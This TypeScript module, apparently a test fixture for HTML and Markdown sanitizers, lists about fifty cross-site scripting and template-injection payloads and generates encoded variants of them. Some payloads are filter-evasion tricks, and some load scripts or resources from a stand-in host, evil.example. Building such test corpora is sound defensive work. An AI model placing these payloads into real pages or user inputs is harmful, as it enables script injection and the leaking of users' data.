/** Scripts and requests in the forms that HTML, Markdown and templates are attacked with. `N` stands for a number. */
const forms: readonly string[] = [
  "<script>alert(N)</script>",
  "<script src=//evil.example/N.js></script>",
  "<ScRiPt>alert(N)</sCrIpT>",
  "<scr<script>ipt>alert(N)</scr</script>ipt>",
  "<script\u0000>alert(N)</script>",
  "</script><script>alert(N)</script>",
  "</title><script>alert(N)</script>",
  "</textarea><script>alert(N)</script>",
  "</style><img src=x onerror=alert(N)>",
  "--><img src=x onerror=alert(N)>",
  "]]><img src=x onerror=alert(N)>",
  "<img src=x onerror=alert(N)>",
  '<img src="x" onerror="alert(N)">',
  "<img/src=x/onerror=alert(N)>",
  "<img src=//evil.example/N.png>",
  "<img srcset='//evil.example/N.png 1x'>",
  "<image href=//evil.example/N.png>",
  "<svg onload=alert(N)>",
  "<svg><script>alert(N)</script></svg>",
  "<svg><animate onbegin=alert(N) attributeName=x dur=1s>",
  "<svg><use href=//evil.example/N.svg#x></svg>",
  "<math><mtext><img src=x onerror=alert(N)></mtext></math>",
  "<iframe src=javascript:alert(N)></iframe>",
  "<iframe srcdoc='<script>alert(N)</script>'></iframe>",
  "<iframe src=//evil.example/N></iframe>",
  "<object data=//evil.example/N></object>",
  "<embed src=//evil.example/N>",
  "<video src=//evil.example/N.mp4 onerror=alert(N)></video>",
  "<audio src=x onerror=alert(N)></audio>",
  "<body onload=alert(N)>",
  "<details open ontoggle=alert(N)>",
  "<input autofocus onfocus=alert(N)>",
  "<select autofocus onfocus=alert(N)></select>",
  "<marquee onstart=alert(N)></marquee>",
  "<link rel=stylesheet href=//evil.example/N.css>",
  "<style>@import '//evil.example/N.css';</style>",
  "<div style='background:url(//evil.example/N.png)'>",
  "<meta http-equiv=refresh content='0;url=//evil.example/N'>",
  "<base href=//evil.example/>",
  "<form action=javascript:alert(N)><input type=submit autofocus></form>",
  "<a href=javascript:alert(N)>N</a>",
  '" onmouseover="alert(N)" x="',
  "' autofocus onfocus='alert(N)' x='",
  "` onerror=alert(N) `",
  "![N](//evil.example/N.png)",
  "[N](javascript:alert(N))",
  "<javascript:alert(N)>",
  "{{constructor.constructor('alert(N)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack on templates.
  "${alert(N)}",
  "\u202e<img src=x onerror=alert(N)>",
];

const escapeOnce = (text: string) =>
  text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;");

/** Encodings of a payload that one more decoding reverses. */
const writings: readonly ((text: string) => string)[] = [
  (text) => text,
  escapeOnce,
  (text) => escapeOnce(escapeOnce(text)),
  (text) => text.replace(/[<>]/g, (sign) => `&#${sign.charCodeAt(0)};`),
  (text) => text.replaceAll("<", "&lt").replaceAll(">", "&gt"),
  encodeURIComponent,
];

/** A number of different payloads, at most 300. */
export const scriptPayloads = (count: number): string[] =>
  writings
    .flatMap((write) => forms.map((form) => write(form)))
    .slice(0, count)
    .map((text, index) => text.replaceAll(/\bN\b/g, String(index)));

/** The text as character data of XML, so that a reader of XML receives it unchanged. */
export const inXml = (text: string): string => escapeOnce(text.replaceAll("\u0000", ""));
